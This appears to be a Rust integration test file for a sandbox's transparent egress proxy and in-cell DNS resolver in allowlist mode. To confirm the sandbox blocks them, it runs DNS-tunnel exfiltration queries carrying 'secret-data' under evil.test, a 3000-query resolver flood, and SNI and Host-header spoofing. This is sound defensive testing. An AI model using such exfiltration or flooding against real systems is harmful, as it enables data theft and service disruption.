//! End-to-end tests of the transparent egress path: in `allowlist` mode a client that
//! ignores the proxy variables resolves allowlisted names through the in-cell resolver
//! and reaches them through the same enforcing proxy; nothing else resolves, no query
//! leaves, and no other address becomes reachable.
//!
//! Each test runs its own upstream (python3 http.server) on 127.0.0.2, exempted from the
//! private-address rule by the test's operator config, and its own `--state-dir`.
//!
//! Every case runs on both tiers (`both_tiers!`, common/tier.rs): on gVisor the resolver
//! and the transparent listeners are the sandbox's egress forwarder's, relayed to the
//! same proxy (crates/cell/src/gvisor/egress.rs), with the same answers and records.

mod common;

use common::tier::Tier;
use common::upstream::Upstream;
use common::CellRun;
use serde_json::Value;
use std::net::UdpSocket;
use std::path::{Path, PathBuf};
use std::time::Duration;

/// The address the resolver hands out for the first exact name of an allowlist.
const FIRST_TRANSPARENT_IP: &str = "127.100.0.1";

/// The upstream of these tests: `hello.txt` served on 127.0.0.2.
fn start_upstream(dir: &Path) -> Upstream {
    let root = dir.join("www");
    std::fs::create_dir_all(&root).unwrap();
    std::fs::write(root.join("hello.txt"), "hello through the transparent path").unwrap();
    Upstream::start(dir, &root, "127.0.0.2", None)
}

/// A test's directory with an operator config (`extra` appended to `[egress]`).
struct Env {
    dir: tempfile::TempDir,
    config: PathBuf,
}

impl Env {
    fn new(extra: &str) -> Env {
        let dir = tempfile::tempdir().unwrap();
        let config = dir.path().join("airlock.toml");
        std::fs::write(
            &config,
            format!(
                "[egress]\nresolve = {{ \"api.test\" = \"127.0.0.2\", \"evil.test\" = \"127.0.0.2\" }}\n\
                 exempt_cidrs = [\"127.0.0.2/32\"]\n{extra}\n"
            ),
        )
        .unwrap();
        Env { dir, config }
    }

    /// `argv` on `tier` (a gVisor sandbox is checked to have left nothing).
    fn run(&self, tier: Tier, contract: Option<&str>, argv: &[&str]) -> CellRun {
        let state = self.dir.path().join("state");
        tier.run_in(
            self.dir.path(),
            contract,
            &[
                "--config",
                self.config.to_str().unwrap(),
                "--state-dir",
                state.to_str().unwrap(),
            ],
            argv,
        )
    }
}

fn allowlist(port: u16) -> String {
    format!("network:\n  mode: allowlist\n  allowed_domains: [\"api.test:{port}\"]\n")
}

fn egress(run: &CellRun) -> Vec<Value> {
    run.result["egress"].as_array().cloned().unwrap_or_default()
}

fn of_protocol(run: &CellRun, protocol: &str) -> Vec<Value> {
    egress(run)
        .into_iter()
        .filter(|r| r["protocol"] == protocol)
        .collect()
}

both_tiers! {
fn proxy_unaware_clients_reach_an_allowlisted_name_through_the_transparent_path(tier) {
    require_cells!();
    let env = Env::new("");
    let up = start_upstream(env.dir.path());
    let port = up.port;
    let url = format!("http://api.test:{port}/hello.txt");
    let script = format!(
        "getent hosts api.test; \
         curl -sS --max-time 20 --noproxy '*' {url}; echo; \
         python3 -c \"import urllib.request as u; \
         print(u.build_opener(u.ProxyHandler({{}})).open('{url}', timeout=20).read().decode())\""
    );
    let run = env.run(tier, Some(&allowlist(port)), &["sh", "-c", &script]);
    assert_eq!(run.code(), 0, "{}", run.describe());
    assert_eq!(run.status(), "ok", "{}", run.describe());
    let out = run.stdout();
    assert!(
        out.starts_with(&format!("{FIRST_TRANSPARENT_IP}  ")) && out.contains("api.test"),
        "getent resolves the name to its transparent address: {}",
        run.describe()
    );
    assert_eq!(
        out.matches("hello through the transparent path").count(),
        2,
        "curl and python both got the file: {}",
        run.describe()
    );
    let records = egress(&run);
    assert_eq!(records.len(), 2, "{}", run.describe());
    for r in &records {
        assert_eq!(r["protocol"], "transparent", "{}", run.describe());
        assert_eq!(r["decision"], "allowed", "{}", run.describe());
        assert_eq!(r["host"], "api.test", "{}", run.describe());
        assert_eq!(r["port"], port, "{}", run.describe());
        assert_eq!(
            r["address"],
            format!("127.0.0.2:{port}"),
            "{}",
            run.describe()
        );
        assert!(r["reason"].is_null(), "{}", run.describe());
    }
    assert_eq!(
        up.log().matches("GET /hello.txt").count(),
        2,
        "{}",
        up.log()
    );
}
}

both_tiers! {
fn resolver_refuses_other_names_records_them_and_forwards_no_query(tier) {
    require_cells!();
    // A DNS server the proxy is configured to use: a forwarded query would arrive here.
    let stub = UdpSocket::bind("127.0.0.2:0").unwrap();
    let stub_addr = stub.local_addr().unwrap();
    let env = Env::new(&format!("upstream_resolvers = [\"{stub_addr}\"]"));
    let up = start_upstream(env.dir.path());
    let exfil = format!("{}.evil.test", "secret-data-".repeat(5));
    let py = format!(
        r#"
import socket
for name in ["evil.test", "{exfil}", "sub.api.test", "localhost.localdomain"]:
    try:
        print("RESOLVED", name, socket.getaddrinfo(name, 443))
    except socket.gaierror as e:
        print("REFUSED", name)
# The same query sent by hand: NXDOMAIN, no answer.
q = b"\x43\x21\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
for label in "{exfil}".split("."):
    q += bytes([len(label)]) + label.encode()
q += b"\x00\x00\x10\x00\x01"
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(5)
u.sendto(q, ("127.0.0.53", 53))
r = u.recv(512)
print("RCODE", r[3] & 15, "ANSWERS", r[6] * 256 + r[7])
"#
    );
    let run = env.run(tier, Some(&allowlist(up.port)), &["python3", "-c", &py]);
    assert_eq!(run.code(), 0, "{}", run.describe());
    let out = run.stdout();
    assert!(!out.contains("RESOLVED"), "{}", run.describe());
    assert_eq!(out.matches("REFUSED").count(), 4, "{}", run.describe());
    assert!(out.contains("RCODE 3 ANSWERS 0"), "{}", run.describe());
    let refused: Vec<String> = of_protocol(&run, "dns")
        .iter()
        .inspect(|r| {
            assert_eq!(r["decision"], "denied", "{}", run.describe());
            assert_eq!(r["reason"], "egress.dns_refused", "{}", run.describe());
        })
        .map(|r| r["host"].as_str().unwrap_or("").to_string())
        .collect();
    for name in ["evil.test", exfil.as_str(), "sub.api.test"] {
        assert!(
            refused.iter().any(|h| h == name),
            "{name} is recorded: {}",
            run.describe()
        );
    }
    assert_eq!(
        egress(&run).len(),
        refused.len(),
        "no connection was made: {}",
        run.describe()
    );
    stub.set_read_timeout(Some(Duration::from_millis(300)))
        .unwrap();
    let mut buf = [0u8; 512];
    if let Ok((n, from)) = stub.recv_from(&mut buf) {
        panic!(
            "a query was forwarded ({n} bytes from {from})\n{}",
            run.describe()
        );
    }
    assert!(up.log().is_empty(), "{}", up.log());
}
}

both_tiers! {
/// The resolver's bounds: a query over 512 bytes is answered FORMERR, a flood of 3000
/// queries is answered or dropped (on gVisor each is relayed by the forwarder, one at a
/// time), and a query after it is answered. Its records stay capped.
fn an_oversized_query_is_refused_and_a_flood_leaves_the_resolver_answering(tier) {
    require_cells!();
    let env = Env::new("");
    let up = start_upstream(env.dir.path());
    let py = r#"
import socket
def query(name, qid, pad=0):
    m = qid.to_bytes(2, "big") + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    for label in name.split("."):
        m += bytes([len(label)]) + label.encode()
    return m + b"\x00\x00\x01\x00\x01" + b"\x00" * pad
def answer(u, qid):
    while True:
        r = u.recv(2048)
        if r[:2] == qid.to_bytes(2, "big"):
            return r
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(5)
u.sendto(query("api.test", 0x4321, pad=600), ("127.0.0.53", 53))
r = answer(u, 0x4321)
print("BIG", r[3] & 15, len(r))
for i in range(3000):
    u.sendto(query("evil.test", i), ("127.0.0.53", 53))
# A fresh socket (the flood's answers fill the first one's buffer), retried as a client
# does: a query may be dropped while the flood is worked off.
v = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
v.settimeout(2)
for attempt in range(10):
    v.sendto(query("api.test", 0x7777), ("127.0.0.53", 53))
    try:
        r = answer(v, 0x7777)
        print("AFTER", r[3] & 15, r[6] * 256 + r[7])
        break
    except OSError:
        pass
"#;
    let run = env.run(tier, Some(&allowlist(up.port)), &["python3", "-c", py]);
    assert_eq!(run.code(), 0, "{}", run.describe());
    let out = run.stdout();
    assert!(out.contains("BIG 1 12\n"), "FORMERR: {}", run.describe());
    assert!(out.contains("AFTER 0 1\n"), "answered: {}", run.describe());
    assert!(egress(&run).len() <= 1100, "{}", run.describe());
}
}

both_tiers! {
fn transparent_tcp_to_an_address_not_handed_out_is_refused(tier) {
    require_cells!();
    let env = Env::new("");
    let up = start_upstream(env.dir.path());
    let port = up.port;
    let py = format!(
        r#"
import socket
for target in [("127.100.9.9", {port}), ("127.100.0.2", {port}), ("{FIRST_TRANSPARENT_IP}", 443),
               ("127.0.0.2", {port}), ("127.0.0.1", {port}), ("10.0.0.1", {port})]:
    try:
        socket.create_connection(target, timeout=5)
        print("CONNECTED", target)
    except OSError as e:
        print("FAILED", target, type(e).__name__)
"#
    );
    let run = env.run(tier, Some(&allowlist(port)), &["python3", "-c", &py]);
    assert_eq!(run.code(), 0, "{}", run.describe());
    let out = run.stdout();
    assert!(!out.contains("CONNECTED"), "{}", run.describe());
    assert_eq!(out.matches("FAILED").count(), 6, "{}", run.describe());
    assert!(egress(&run).is_empty(), "{}", run.describe());
    assert!(up.log().is_empty(), "{}", up.log());
}
}

both_tiers! {
fn transparent_tls_for_another_name_or_http_for_another_host_is_refused_like_a_tunnel(tier) {
    require_cells!();
    let env = Env::new("");
    let up = start_upstream(env.dir.path());
    let port = up.port;
    let py = format!(
        r#"
import socket, ssl
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
s = socket.create_connection(("api.test", {port}), timeout=20)
try:
    ctx.wrap_socket(s, server_hostname="evil.test")
    print("HANDSHAKE-OK")
except Exception as e:
    print("TLS-FAILED", type(e).__name__)
s = socket.create_connection(("api.test", {port}), timeout=20)
s.sendall(b"GET /hello.txt HTTP/1.1\r\nHost: evil.test:{port}\r\n\r\n")
reply = b""
while True:
    chunk = s.recv(4096)
    if not chunk:
        break
    reply += chunk
print("HTTP-REPLY", reply.split(b"\r\n")[0].decode(), b"egress.host_mismatch" in reply)
"#
    );
    let run = env.run(tier, Some(&allowlist(port)), &["python3", "-c", &py]);
    assert_eq!(run.code(), 0, "{}", run.describe());
    let out = run.stdout();
    assert!(
        out.contains("TLS-FAILED") && !out.contains("HANDSHAKE-OK"),
        "{}",
        run.describe()
    );
    assert!(
        out.contains("HTTP-REPLY HTTP/1.1 403 Forbidden True"),
        "{}",
        run.describe()
    );
    let reasons: Vec<Value> = of_protocol(&run, "transparent")
        .iter()
        .inspect(|r| {
            assert_eq!(r["decision"], "denied", "{}", run.describe());
            assert_eq!(r["bytes_up"], 0, "{}", run.describe());
        })
        .map(|r| r["reason"].clone())
        .collect();
    assert_eq!(
        reasons,
        ["egress.sni_mismatch", "egress.host_mismatch"],
        "{}",
        run.describe()
    );
    assert!(up.log().is_empty(), "{}", up.log());
}
}

both_tiers! {
fn deny_mode_has_no_resolver_and_no_transparent_listeners(tier) {
    require_cells!();
    let env = Env::new("");
    let py = r#"
import socket
print("RESOLV", open("/etc/resolv.conf").read() if __import__("os").path.exists("/etc/resolv.conf") else None)
print("NSSWITCH", [l for l in open("/etc/nsswitch.conf") if l.startswith("hosts:")])
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(2)
try:
    u.sendto(b"\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03api\x04test\x00\x00\x01\x00\x01", ("127.0.0.53", 53))
    print("DNS-REPLY", u.recv(512))
except OSError as e:
    print("DNS-FAILED", type(e).__name__)
for port in (80, 443):
    try:
        socket.create_connection(("127.100.0.1", port), timeout=2)
        print("CONNECTED", port)
    except OSError as e:
        print("FAILED", port, type(e).__name__)
"#;
    let run = env.run(tier, None, &["python3", "-c", py]);
    assert_eq!(run.code(), 0, "{}", run.describe());
    let out = run.stdout();
    assert!(out.contains("RESOLV None"), "{}", run.describe());
    assert!(
        out.contains("NSSWITCH ['hosts: files\\n']"),
        "{}",
        run.describe()
    );
    assert!(out.contains("DNS-FAILED"), "{}", run.describe());
    assert!(!out.contains("CONNECTED"), "{}", run.describe());
    assert_eq!(out.matches("FAILED").count(), 3, "{}", run.describe());
    assert!(egress(&run).is_empty(), "{}", run.describe());
}
}
